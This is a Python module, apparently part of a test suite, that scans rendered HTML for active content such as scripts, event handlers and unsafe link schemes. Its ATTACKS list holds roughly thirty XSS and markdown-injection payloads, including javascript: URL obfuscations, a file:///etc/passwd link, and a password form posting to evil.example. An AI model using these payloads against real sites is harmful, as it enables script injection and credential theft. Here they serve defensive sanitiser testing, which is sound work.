"""What in a page could act: scripts, handlers, addresses that lead where nobody should go."""

import re
from html.parser import HTMLParser

FORBIDDEN = (
    "audio", "base", "embed", "frame", "iframe", "img", "math", "object", "style", "video",
)  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "![a](https://tracker.example/pixel.png)",
    "![a](javascript:alert(1))",
    '[a](https://e.example "\\" onmouseover=alert(1) x=\\"")',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    "<iframe src=//evil.example></iframe>",
    "<base href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</div></main><script>alert(1)</script>",
    "{{ 7|add:7 }}{% debug %}",
    "<template><iframe src=//evil.example></iframe></template>",
    "`</code><script>alert(1)</script>`",
    "|<script>alert(1)</script>|\n|-|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
]


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        facts = {name: value or "" for name, value in attributes}
        if tag in FORBIDDEN or (
            tag == "script" and not facts.get("src", "").startswith("/static/")
        ):
            self.found.append(f"<{tag} {facts}>")
        for name, value in facts.items():
            if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc", "formaction"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action") and not _leads_somewhere_known(value):
                self.found.append(f"<{tag} {name}={value}>")


def _leads_somewhere_known(address: str) -> bool:
    known = ("/", "#", "?", "http://", "https://", "mailto:", "tel:")
    return address == "" or (address.startswith(known) and not address.startswith("//"))


def active_in(html: str) -> list[str]:
    """Everything in a page that could act, except our own scripts and the frame of documents."""
    finder = _Finder()
    finder.feed(re.sub(r"(?s)<template><iframe.*?</template>", "", html))
    return finder.found
